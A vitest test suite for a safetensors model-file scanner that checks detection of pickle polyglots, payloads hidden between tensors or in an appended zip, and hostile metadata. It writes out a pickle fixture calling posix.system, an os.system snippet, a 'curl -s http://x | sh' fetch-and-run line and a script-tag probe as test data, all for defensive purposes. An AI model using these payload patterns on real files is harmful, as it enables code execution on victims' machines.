import { describe, expect, it } from 'vitest';
import { OP } from '../../formats/pickle/opcodes.js';
import { pickle } from '../../formats/pickle/test-support/builder.js';
import { safetensors, validFile } from '../../formats/safetensors/test-support.js';
import { buildZip } from '../../formats/zip/test-support/zip-builder.js';
import { analyseBytes, ruleList } from '../test-support.js';

async function scan(bytes: Uint8Array) {
  const result = await analyseBytes(bytes, 'model.safetensors');
  return { format: result.format, rules: ruleList(result.findings) };
}

const evil = pickle()
  .proto(2)
  .global('posix', 'system')
  .unicode('id')
  .op(OP.TUPLE1)
  .op(OP.REDUCE)
  .stop()
  .build();

describe('safetensors analyser', () => {
  it('reports nothing for a valid file', async () => {
    expect(await scan(validFile({ __metadata__: { format: 'pt' } }))).toEqual({
      format: 'safetensors',
      rules: [],
    });
  });

  it('analyses bytes after the last tensor by content: a pickle polyglot is critical', async () => {
    const file = new Uint8Array(Buffer.concat([validFile(), evil]));
    const r = await scan(file);
    expect(r.rules).toContain('SAFETENSORS-LAYOUT:high');
    expect(r.rules).toContain('PICKLE-IMPORT-DANGEROUS:critical');
  });

  it('analyses a gap between tensors, and an appended zip', async () => {
    const gap = safetensors(
      {
        a: { dtype: 'U8', shape: [1], data_offsets: [0, 1] },
        b: { dtype: 'U8', shape: [1], data_offsets: [1 + evil.length, 2 + evil.length] },
      },
      new Uint8Array(Buffer.concat([Buffer.from([0]), evil, Buffer.from([0])])),
    );
    expect((await scan(gap)).rules).toContain('PICKLE-IMPORT-DANGEROUS:critical');
    const zip = buildZip([{ name: 'archive/data.pkl', data: evil }]);
    const withZip = new Uint8Array(Buffer.concat([validFile(), zip]));
    expect((await scan(withZip)).rules).toContain('PICKLE-IMPORT-DANGEROUS:critical');
  });

  it('grades metadata: code high, commands, script markup and URLs medium, paths low', async () => {
    const r = await scan(
      validFile({
        __metadata__: {
          a: "__import__('os').system('id')",
          b: 'curl -s http://x | sh',
          c: '<script>alert(1)</script>',
          d: 'see https://example.com/x',
          e: 'saved from /home/user/model',
          f: 'pt',
        },
      }),
    );
    expect(r.rules).toEqual([
      'SAFETENSORS-METADATA:high',
      'SAFETENSORS-METADATA:low',
      'SAFETENSORS-METADATA:medium',
      'SAFETENSORS-METADATA:medium',
      'SAFETENSORS-METADATA:medium',
    ]);
  });

  it('reports an invalid header as not analysed, and schema problems as medium', async () => {
    const unreadable = safetensors('{"a":');
    expect((await scan(unreadable)).rules).toEqual(['SAFETENSORS-HEADER:medium']);
    const schema = safetensors({ a: { dtype: 'Q4', shape: [1], data_offsets: [0, 1] } }, new Uint8Array(1));
    expect((await scan(schema)).rules).toContain('SAFETENSORS-HEADER:medium');
  });
});
